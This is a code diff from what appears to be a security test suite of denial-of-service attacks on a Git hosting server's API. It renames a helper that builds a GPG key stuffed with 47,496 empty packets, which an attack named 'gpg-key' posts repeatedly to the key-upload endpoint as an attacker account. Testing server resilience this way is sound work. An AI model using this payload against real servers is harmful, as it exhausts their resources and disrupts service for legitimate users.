@@ -70,7 +70,7 @@ const uploadObject = async ({ ask, base, mallory }: AttackSetup): Promise<void> 
   if (status !== 200) throw new Error(`the upload of the LFS object failed: ${status}`)
 }
 
-const armoured = (): string => {
+const armored = (): string => {
   const packets = Buffer.concat([Buffer.of(0xd2, 0xe0, 1, 0), Buffer.alloc(2 * 47_496, Buffer.of(0xfc, 0))])
   const lines = packets
     .toString('base64')
@@ -189,7 +189,7 @@ export const attacks: readonly Attack[] = [
     name: 'gpg-key',
     title: 'GPG keys of 47,496 empty packets',
     prepare: async ({ mallory }) =>
-      posts(8, '/api/v1/user/gpg_keys', { armored_public_key: armoured() }, as(mallory)),
+      posts(8, '/api/v1/user/gpg_keys', { armored_public_key: armored() }, as(mallory)),
   },
   {
     name: 'idle-fetches',
